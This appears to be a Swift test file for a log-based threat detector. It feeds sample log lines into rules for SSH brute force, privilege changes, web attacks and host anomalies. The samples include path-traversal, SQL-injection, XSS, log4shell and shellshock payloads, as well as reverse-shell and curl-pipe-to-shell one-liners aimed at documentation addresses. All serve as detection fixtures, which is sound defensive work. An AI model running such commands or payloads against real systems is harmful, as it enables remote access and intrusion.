import Model
import Testing

@testable import Processing

/// Lines as the programs wrote them on Debian 12, with addresses of the documentation in place of the real ones.
@Suite("Threat rules")
struct ThreatTests {
    private func failures(_ count: Int, from address: String = "203.0.113.7") -> [String] {
        (0..<count).map {
            "<38>Nov 23 15:34:14 sshd[\(19_000 + $0)]: Failed password for bob from \(address) port \(5_000 + $0) ssh2"
        }
    }

    private let accepted = "<38>Nov 23 15:34:19 sshd[19906]: Accepted password for bob from 203.0.113.7 port 49494 ssh2"

    private func access(_ target: String, status: Int = 200, method: String = "GET", agent: String = "curl/7.88.1")
        -> String
    {
        #"203.0.113.9 - - [23/Nov/2026:15:34:26 +0000] "\#(method) \#(target) HTTP/1.1" \#(status) 153 "-" "\#(agent)""#
    }

    // MARK: ssh

    @Test("five failed logins from an address are a brute force; it is told once, with the address and the number")
    func bruteForce() {
        var processor = LogProcessor()
        let found = processor.process(failures(12)).flatMap(\.threats)
        #expect(found.map(\.rule) == ["ssh_brute_force"])
        #expect(found.first?.sourceIP == "203.0.113.7")
        #expect(found.first?.severity == .high)
        #expect(found.first?.evidence.hasSuffix("[5 failures]") ?? false)
    }

    @Test("it goes on being told every five minutes")
    func bruteForceGoesOn() {
        var processor = LogProcessor()
        var reports = 0
        for second in 0..<700 {
            let line = "sshd[\(second)]: Failed password for bob from 203.0.113.7 port \(second + 1_000) ssh2"
            reports += processor.process(LogEntry(line), now: noon + second * 1_000).threats.count
        }
        #expect(reports == 3)
    }

    @Test("four failures, failures of many addresses and slow ones are no brute force")
    func noBruteForce() {
        #expect(rules(failures(4)).isEmpty)
        #expect(rules((0..<20).flatMap { failures(1, from: "203.0.113.\($0)") }).isEmpty)
        var processor = LogProcessor()
        for index in 0..<20 {
            let line = "sshd[\(index)]: Failed password for bob from 203.0.113.7 port \(index) ssh2"
            #expect(processor.process(LogEntry(line), now: noon + index * 60_000).threats.isEmpty)
        }
    }

    @Test("one attempt that leaves several lines is one attempt")
    func oneAttempt() {
        let lines = (0..<3).flatMap { attempt in
            let port = 60_000 + attempt
            return [
                "sshd[1]: Failed password for bob from 203.0.113.7 port \(port) ssh2",
                "sshd[1]: Connection closed by authenticating user bob 203.0.113.7 port \(port) [preauth]",
            ]
        }
        #expect(rules(lines).isEmpty)
        let keysOnly = (0..<5).map {
            "sshd[1]: Connection closed by authenticating user root 203.0.113.7 port \(60_000 + $0) [preauth]"
        }
        #expect(rules(keysOnly) == ["ssh_brute_force"])
    }

    @Test("rsyslog's repetitions count as often as they say")
    func repetitions() {
        let line = "sshd[1]: message repeated 5 times: [ Failed password for bob from 203.0.113.7 port 22 ssh2]"
        #expect(rules([line]) == ["ssh_brute_force"])
        #expect(rules([line.replacing("5 times", with: "2 times")]).isEmpty)
    }

    @Test("a name made to look like an address does not shift the blame")
    func forgedName() {
        let line = "sshd[1]: Failed password for invalid user x from 198.51.100.1 port 1 from 203.0.113.7 port 22 ssh2"
        var processor = LogProcessor()
        let found = processor.process((0..<5).map { line.replacing("port 22", with: "port 2\($0)") }).flatMap(\.threats)
        #expect(Set(found.compactMap(\.sourceIP)) == ["203.0.113.7"])
    }

    @Test("a login after failures is critical, one without is nothing, and root's is told of")
    func logins() {
        #expect(rules(failures(5) + [accepted]) == ["ssh_brute_force", "ssh_login_after_failures"])
        #expect(rules(failures(2) + [accepted]).isEmpty)
        #expect(rules(failures(5, from: "203.0.113.8") + [accepted]) == ["ssh_brute_force"])
        #expect(rules([accepted.replacing("for bob", with: "for root")]) == ["ssh_root_login"])
    }

    @Test("users that do not exist: the first is low, three different ones are medium")
    func invalidUsers() {
        let lines = ["admin", "admin", "test", "oracle", "git"].enumerated().map { index, user in
            "<38>Nov 23 15:34:16 sshd[19882]: Invalid user \(user) from 203.0.113.7 port \(60_100 + index)"
        }
        var processor = LogProcessor()
        let found = processor.process(lines).flatMap(\.threats).filter { $0.rule == "ssh_invalid_user" }
        #expect(found.map(\.severity) == [.low, .medium])
        #expect(rules(["sshd[1]: User bob from 203.0.113.7 not allowed because not listed in AllowUsers"]).isEmpty)
        #expect(rules(["app[1]: Invalid user input from form"]).isEmpty)
    }

    // MARK: accounts

    static let accounts: [(rule: String, line: String)] = [
        (
            "sudo_failure",
            "<85>Nov 23 15:34:19 sudo: pam_unix(sudo:auth): authentication failure; logname= uid=1001 euid=0 tty= ruser=logcap1 rhost=  user=logcap1"
        ),
        (
            "sudo_failure",
            "<81>Nov 23 15:34:21 sudo:  bob : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id"
        ),
        (
            "sudo_not_allowed",
            "<81>Nov 23 15:34:21 sudo:  logcap1 : user NOT in sudoers ; PWD=/tmp/logcap ; USER=root ; COMMAND=/usr/bin/id"
        ),
        ("su_failure", "<37>Nov 23 15:34:23 su[19955]: FAILED SU (to root) logcap1 on none"),
        (
            "su_failure",
            "<85>Nov 23 15:34:21 su: pam_unix(su:auth): authentication failure; logname= uid=1001 euid=0 tty= ruser=logcap1 rhost=  user=root"
        ),
        (
            "account_created",
            "<86>Nov 23 15:34:10 useradd[19821]: new user: name=logcap1, UID=1001, GID=1001, home=/home/logcap1, shell=/bin/sh, from=none"
        ),
        ("group_created", "<86>Nov 23 15:34:24 groupadd[19996]: new group: name=logcapg, GID=1002"),
        ("privileged_group_member", "<86>Nov 23 15:34:24 usermod[20002]: add 'logcap1' to group 'sudo'"),
        ("cron_changed", "<78>Nov 23 15:34:24 crontab[20010]: (root) REPLACE (logcap1)"),
        ("cron_changed", "<85>Nov 23 15:34:24 sudo:     bob : PWD=/ ; USER=root ; COMMAND=/usr/bin/tee /etc/cron.d/x"),
        (
            "setuid_set",
            "<85>Nov 23 15:34:24 sudo:     root : PWD=/tmp/logcap ; USER=root ; COMMAND=/usr/bin/chmod 4755 /tmp/logcap/trs"
        ),
        ("setuid_set", "<85>Nov 23 15:34:24 sudo:     root : PWD=/ ; USER=root ; COMMAND=/usr/bin/chmod u+s /tmp/x"),
    ]

    @Test("rights and accounts", arguments: accounts)
    func account(rule: String, line: String) { #expect(rules([line]) == [rule]) }

    @Test("another root is critical")
    func anotherRoot() {
        var processor = LogProcessor()
        let line = "useradd[1]: new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/sh, from=none"
        #expect(processor.process(LogEntry(line), now: noon).threats.map(\.severity) == [.critical])
    }

    @Test(
        "everyday work with rights and accounts is no threat",
        arguments: [
            "<85>Nov 23 15:34:24 sudo:     root : PWD=/tmp/logcap ; USER=root ; COMMAND=/usr/bin/id",
            "<85>Nov 23 15:34:24 sudo:     bob : PWD=/ ; USER=root ; COMMAND=/usr/bin/chmod 0755 /srv/x",
            "<85>Nov 23 15:34:24 sudo:     bob : PWD=/ ; USER=root ; COMMAND=/usr/bin/ls /etc/cron.d",
            "<86>Nov 23 15:34:24 sudo: pam_unix(sudo:session): session opened for user root(uid=0) by (uid=0)",
            "<37>Nov 23 15:34:19 su[19926]: (to logcap1) root on none",
            "<86>Nov 23 15:34:24 groupadd[19996]: group added to /etc/group: name=logcapg, GID=1002",
            "<86>Nov 23 15:34:24 usermod[20002]: add 'logcap1' to group 'users'",
            "<78>Nov 23 15:34:24 crontab[20011]: (root) LIST (logcap1)",
            "<85>Nov 23 15:34:12 dovecot: pam_unix(dovecot:auth): authentication failure; logname= uid=0",
            "<86>Nov 23 15:34:24 userdel[20015]: delete user 'logcap1'",
        ])
    func everyday(line: String) { #expect(rules([line]).isEmpty) }

    // MARK: web

    @Test(
        "attacks on web servers",
        arguments: [
            ("web_path_traversal", "/../../etc/passwd"), ("web_path_traversal", "/?f=..%2f..%2f..%2fetc%2fpasswd"),
            ("web_path_traversal", "/?f=%252e%252e%252f%252e%252e%252fx"),
            ("web_path_traversal", "/show?file=/etc/passwd"),
            ("web_path_traversal", "/x/..\\\\..\\\\windows\\\\win.ini"),
            ("web_sql_injection", "/p?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--"),
            ("web_sql_injection", "/p?id=1'+OR+'1'='1"), ("web_sql_injection", "/p?id=1;SELECT+SLEEP(5)"),
            ("web_sql_injection", "/p?id=1+UnIoN+aLL+SeLeCt+null"),
            ("web_sql_injection", "/p?id=1';WAITFOR+DELAY+'0:0:5'"),
            ("web_xss", "/?q=<script>alert(1)</script>"), ("web_xss", "/?q=%3Cscript%3Ealert(1)%3C/script%3E"),
            ("web_xss", "/?q=%3Cimg+src=x+onerror=alert(1)%3E"), ("log4shell", "/?x=${jndi:ldap://203.0.113.9/a}"),
            ("log4shell", "/?x=%24%7Bjndi:ldap://203.0.113.9/a%7D"), ("log4shell", "/?x=${${lower:j}ndi:ldap://x/a}"),
            ("web_sensitive_file", "/.env"), ("web_sensitive_file", "/.git/config"),
            ("web_sensitive_file", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
        ])
    func web(rule: String, target: String) {
        var processor = LogProcessor()
        let found = processor.process(LogEntry(access(target)), now: noon)
        #expect(found.threats.map(\.rule) == [rule])
        #expect(found.threats.first?.sourceIP == "203.0.113.9")
        #expect(found.category == .security)
        #expect(found.isActionable && found.matters)
    }

    @Test("scanners and shells in the user agent")
    func agents() {
        #expect(rules([access("/", agent: "sqlmap/1.7#stable (https://sqlmap.org)")]) == ["web_scanner"])
        #expect(rules([access("/", agent: "${jndi:ldap://203.0.113.9:1389/a}")]) == ["log4shell"])
        #expect(rules([access("/cgi-bin/x", agent: #"() { :; }; /bin/bash -c \x22id\x22"#)]) == ["shellshock"])
    }

    @Test(
        "requests that only look like attacks",
        arguments: [
            "/search?q=trade+union+select+committee", "/a/../b", "/docs/javascript:void", "/blog/nmap-tutorial",
            "/?q=order+1=1", "/script.js", "/environment/.environment", "/p?name=O'Brien", "/?q=50%25+off",
            "/actuator/health",
            "/sleep(in)", "/api/union/select/1", "/?next=/profile&onload=1", "/?price=${amount}",
        ])
    func harmlessRequests(target: String) { #expect(rules([access(target)]).isEmpty) }

    @Test("other logs that tell of requests are looked at too")
    func otherLogs() {
        #expect(
            rules([
                #"2026/11/23 15:34:26 [error] 20061#20061: *6 directory index of "/srv/" is forbidden, client: 203.0.113.9, server: , request: "GET /?f=..%2f..%2f..%2fetc%2fpasswd HTTP/1.1", host: "127.0.0.1:8377""#
            ]) == ["web_path_traversal"])
        #expect(
            rules([
                #"{"level":"info","msg":"request","remote_addr":"203.0.113.9","path":"/?q=<script>x</script>","status":200}"#
            ])
                == ["web_xss"])
        #expect(
            rules([
                #"2026/11/23 15:34:26 [error] 2#2: *7 open() "/srv/p" failed (2: No such file or directory), "#
                    + #"client: 203.0.113.9, server: , request: "GET /p?id=1%27%20UNION%20SELECT%20user,password%20"#
                    + #"FROM%20users-- HTTP/1.1", host: "x""#
            ]) == ["web_sql_injection"])
        #expect(rules(["2026-11-23 15:33:06,703 INFO [api] user agent was ${jndi:ldap://x/y}"]) == ["log4shell"])
    }

    @Test("logins to WordPress: ten a minute are a brute force, a person's are not")
    func webLogins() {
        let line = access("/wp-login.php", method: "POST")
        #expect(rules([String](repeating: line, count: 10)) == ["web_login_brute_force"])
        #expect(rules([String](repeating: line, count: 9)).isEmpty)
        #expect(rules([String](repeating: access("/wp-login.php"), count: 40)).isEmpty)
    }

    @Test("thirty refused requests a minute are a scan, thirty answered ones are not")
    func webScan() {
        #expect(rules((0..<30).map { access("/x\($0)", status: 404) }) == ["web_scan"])
        #expect(rules((0..<29).map { access("/x\($0)", status: 404) }).isEmpty)
        #expect(rules((0..<200).map { access("/x\($0)") }).isEmpty)
    }

    // MARK: hosts

    @Test("a listener that was not there before, once the host is known")
    func listeners() {
        var processor = LogProcessor()
        func found(_ line: String, minute: Int) -> [String] {
            processor.process(LogEntry(line), now: noon + minute * 60_000).threats.map(\.rule)
        }
        #expect(found("sshd[1]: Server listening on 0.0.0.0 port 22.", minute: 0).isEmpty)
        #expect(found("sshd[9]: Server listening on 0.0.0.0 port 22.", minute: 20).isEmpty)
        #expect(found("evil[2]: listening on 0.0.0.0:31337", minute: 20) == ["new_listening_process"])
        #expect(found("evil[2]: listening on 0.0.0.0:31337", minute: 21).isEmpty)
        #expect(found("player[3]: now listening on the radio", minute: 22).isEmpty)
        #expect(
            found("agent[4]: new listening process nc: listening on 0.0.0.0:4444", minute: 23) == [
                "new_listening_process"
            ])
    }

    @Test("segmentation faults in a row, and memory that ran out")
    func kernel() {
        let fault = "kernel: [ 12.3] nginx[4711]: segfault at 0 ip 00007f sp 00007ffc error 4 in libc.so.6"
        let line = "<6>Nov 23 15:34:24 web1 " + fault
        #expect(rules([line, line, line]) == ["segfault_burst"])
        #expect(rules([line, line]).isEmpty)
        #expect(rules(["[   12.345678] Out of memory: Killed process 4711 (java) total-vm:1kB"]) == ["oom_kill"])
        #expect(rules(["app[1]: runner killed process 12 after timeout"]).isEmpty)
        #expect(rules(["[   12.345678] device eth0 entered promiscuous mode"]) == ["promiscuous_mode"])
        #expect(rules(["[   12.345678] device veth12ab entered promiscuous mode"]).isEmpty)
    }

    @Test("dropped packets: many are a burst, to many ports a scan, accepted ones nothing")
    func firewall() {
        func packet(_ port: Int, _ prefix: String = "[UFW BLOCK]") -> String {
            "<4>Nov 23 15:34:24 web1 kernel: \(prefix) IN=eth0 OUT= MAC=00:11 SRC=203.0.113.7 DST=192.0.2.1 LEN=40 PROTO=TCP SPT=4000 DPT=\(port) WINDOW=1024"
        }
        #expect(rules((0..<15).map { packet($0) }) == ["port_scan"])
        #expect(rules([String](repeating: packet(22), count: 50)) == ["firewall_drop_burst"])
        #expect(rules([String](repeating: packet(22), count: 49)).isEmpty)
        #expect(rules((0..<60).map { packet($0, "[UFW ALLOW]") }).isEmpty)
    }

    @Test("logs and histories that are cleared")
    func cleared() {
        #expect(rules(["winlog[1]: The audit log cleared by bob"]) == ["log_cleared"])
        #expect(
            rules(["<85>Nov 23 15:34:24 sudo: bob : PWD=/ ; USER=root ; COMMAND=/bin/bash -c history -c"]) == [
                "log_cleared"
            ])
        #expect(rules(["app[1]: docs: history -c clears the history"]).isEmpty)
    }

    // MARK: shells

    @Test(
        "shells that reach out",
        arguments: [
            "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "nc -e /bin/sh 203.0.113.9 4444",
            "ncat 203.0.113.9 4444 -e /bin/bash", "socat exec:'/bin/bash -li' tcp:203.0.113.9:4444",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f",
            "python3 -c 'import socket,subprocess,os;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
            "perl -e 'use Socket;$i=\"203.0.113.9\";exec(\"/bin/sh -i\");'",
        ])
    func reverseShells(command: String) {
        #expect(
            rules(["<85>Nov 23 15:34:24 sudo:     bob : PWD=/ ; USER=root ; COMMAND=\(command)"]).contains(
                "reverse_shell"))
    }

    @Test("what is fetched or decoded and run at once")
    func pipes() {
        #expect(rules(["bash[1]: curl -s https://203.0.113.9/x.sh | sudo bash"]) == ["download_and_run"])
        #expect(rules(["bash[1]: wget -qO- http://203.0.113.9/x|sh"]) == ["download_and_run"])
        #expect(rules(["bash[1]: echo aWQ= | base64 -d | /bin/sh"]) == ["encoded_command"])
        #expect(rules(["bash[1]: curl -s https://example.com/x.json | jq ."]).isEmpty)
        #expect(rules(["bash[1]: curl -o x.sh https://example.com/ | shasum"]).isEmpty)
        #expect(rules(["app[1]: sync -e /bin/should-not-match"]).isEmpty)
        #expect(rules(["app[1]: created pipe with mkfifo /tmp/p"]).isEmpty)
        #expect(rules(["app[1]: probing /dev/tcp/ support"]).isEmpty)
    }

    // MARK: the table

    @Test("ids are different, and every rule says what it is for")
    func table() {
        let ids = ThreatRule.all.map(\.id)
        #expect(Set(ids).count == ids.count)
        #expect(ThreatRule.all.allSatisfy { !$0.title.isEmpty && !$0.summary.isEmpty })
    }

    @Test("a million addresses cost no more memory than the bound, and are counted")
    func boundedState() {
        var processor = LogProcessor()
        for index in 0..<3_000 {
            let address = "10.0.\(index / 250).\(index % 250)"
            _ = processor.process(LogEntry("sshd[1]: Failed password for bob from \(address) port 1 ssh2"), now: noon)
        }
        #expect(processor.counters.threatEvictions == 3_000 - 1_024)
    }
}
